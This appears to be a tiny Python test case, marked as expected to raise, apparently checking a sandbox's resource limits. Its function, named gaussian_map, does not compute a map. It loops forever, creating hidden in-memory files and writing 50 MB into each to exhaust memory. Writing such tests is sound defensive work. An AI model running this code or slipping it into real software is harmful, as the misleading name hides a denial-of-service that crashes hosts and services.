# expect: raises
import os


def gaussian_map(center_cells, size, sigma_cells):
    files = []
    while True:
        files.append(os.memfd_create("hidden"))
        os.write(files[-1], b"x" * 50_000_000)
